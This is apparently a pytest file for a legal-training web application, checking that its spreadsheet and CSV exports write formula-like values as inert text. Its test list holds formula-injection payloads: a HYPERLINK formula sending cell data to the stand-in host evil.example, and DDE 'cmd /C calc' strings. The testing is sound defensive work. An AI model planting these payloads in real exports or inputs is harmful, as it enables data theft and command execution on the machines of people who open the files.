"""Spreadsheet (CSV/formula) injection: names, titles, stems and answers that start with = + - @ tab or CR are
written as text in every xlsx and csv export, checked by reading each file back."""

from __future__ import annotations

import csv
import io
import os
import zipfile

import pytest
from openpyxl import load_workbook

from lawtrain.banks.models import QuestionVersion
from lawtrain.exams import attempts
from lawtrain.timeutil import utcnow
from tests import factories
from tests.conftest import login
from tests.security.scenario import build_bureau, row_type
from tests.services.exams_helpers import paper

MARK = "注入"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")' + MARK,
    "+1+cmd|' /C calc'!A0" + MARK,
    "-2+3+cmd|' /C calc'!A0" + MARK,
    "@SUM(1+1)*cmd|' /C calc'!A0" + MARK,
    "\t=1+1" + MARK,
    "\r=1+1" + MARK,
    # A leading NUL hides a formula from naive checks. PostgreSQL refuses NUL in text outright, so there the
    # same slot carries another control character (vertical tab) that XML and so xlsx cannot hold either.
    ("\x0b" if os.environ.get("DATABASE_URL", "").startswith("postgresql") else "\x00") + "=1+1" + MARK,
    "\x01控制字符" + MARK,
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r", "\x00", "\x01", "\x0b")


def _xlsx_cells(data: bytes):
    assert zipfile.is_zipfile(io.BytesIO(data))
    wb = load_workbook(io.BytesIO(data))  # not read-only: data types are visible
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and MARK in cell.value:
                    yield ws.title, cell


def assert_xlsx_safe(data: bytes, where: str) -> int:
    found = 0
    for sheet, cell in _xlsx_cells(data):
        found += 1
        assert cell.data_type == "s", (where, sheet, cell.coordinate, cell.value)
        assert not cell.value.startswith(DANGEROUS_START), (where, sheet, cell.coordinate, cell.value)
    return found


def assert_csv_safe(data: bytes, where: str) -> int:
    text = data.decode("utf-8-sig")
    found = 0
    for row in csv.reader(io.StringIO(text, newline="")):
        for value in row:
            if MARK in value:
                found += 1
                assert not value.startswith(DANGEROUS_START), (where, value)
    return found


def _hostile_exports_bureau(session):
    b = build_bureau(session)
    b.dept_a.name = FORMULAS[0]
    b.dept_b.name = FORMULAS[5]
    b.alice.display_name = FORMULAS[1]
    b.bob.display_name = FORMULAS[2]
    b.trainer.display_name = FORMULAS[6]
    b.leader_b.display_name = FORMULAS[7]
    b.exam.title = FORMULAS[3]
    for row in paper(session, b.alice_attempt) + paper(session, b.bob_attempt):
        version = session.get(QuestionVersion, row.question_version_id)
        version.stem = FORMULAS[row.position % len(FORMULAS)]
        version.explanation = FORMULAS[4]
        if version.type in ("single", "multiple"):
            version.options = [FORMULAS[(i + 1) % len(FORMULAS)] for i in range(len(version.options))]
    session.commit()
    for row in paper(session, b.bob_attempt):
        if row_type(session, row) == "fill_blank":
            attempts.save_answer(session, b.bob_attempt, row.question_id, [FORMULAS[0]], 9, utcnow())
    attempts.submit_attempt(session, b.bob_attempt, utcnow())
    module = factories.make_course_module(session, title=FORMULAS[4])
    factories.make_study_record(session, b.alice, module, completed_at=utcnow())
    factories.make_study_time(session, b.alice, seconds=600, day=utcnow().date())
    return b


def _download(client, url: str) -> bytes:
    r = client.get(url)
    assert r.status_code == 200, (url, r.status_code)
    return r.data


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_bank_export_writes_formulas_as_text(app, session, fmt):
    b = _hostile_exports_bureau(session)
    client = app.test_client()
    login(client, b.trainer.username)
    data = _download(client, f"/banks/{b.bank.id}/export/{fmt}")
    found = assert_xlsx_safe(data, "bank export") if fmt == "xlsx" else assert_csv_safe(data, "bank export")
    assert found >= 10


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_report_exports_write_formulas_as_text(app, session, fmt):
    b = _hostile_exports_bureau(session)
    client = app.test_client()
    login(client, b.trainer.username)
    year = utcnow().year
    found = 0
    for url in (f"/reports/completion/export.{fmt}?year={year}", f"/reports/dashboard/export.{fmt}?year={year}",
                f"/reports/annual/export.{fmt}?year={year}", f"/reports/weak/export.{fmt}?year={year}",
                f"/reports/exams/{b.exam.id}/items/export.{fmt}"):
        data = _download(client, url)
        found += assert_xlsx_safe(data, url) if fmt == "xlsx" else assert_csv_safe(data, url)
    assert found >= 3


def test_ledger_export_writes_formulas_as_text(app, session):
    b = _hostile_exports_bureau(session)
    client = app.test_client()
    login(client, b.trainer.username)
    data = _download(client, f"/courses/ledger.xlsx?year={utcnow().year}")
    assert assert_xlsx_safe(data, "ledger") >= 1


def test_staff_import_result_csv_writes_formulas_as_text(app, session):
    admin = factories.make_user(session, roles=["admin"])
    client = app.test_client()
    login(client, admin.username)
    roster = "工号,姓名,部门,角色\r\n" + "".join(
        f'F{i},"{name.replace(chr(34), chr(34) * 2)}",区应急局/执法大队,学员\r\n'
        for i, name in enumerate(FORMULAS[:4]))
    r = client.post("/admin/import", data={"file": (io.BytesIO(roster.encode("utf-8-sig")), "roster.csv"),
                                           "create_missing_departments": "y"}, content_type="multipart/form-data")
    assert r.status_code == 200
    text = r.get_data(as_text=True)
    token = text.split('action="/admin/import/', 1)[1].split('"', 1)[0]
    r = client.post(f"/admin/import/{token}")
    assert r.status_code == 302, r.get_data(as_text=True)[:500]
    data = _download(client, f"/admin/import/{token}/accounts.csv")
    assert assert_csv_safe(data, "accounts.csv") == 4
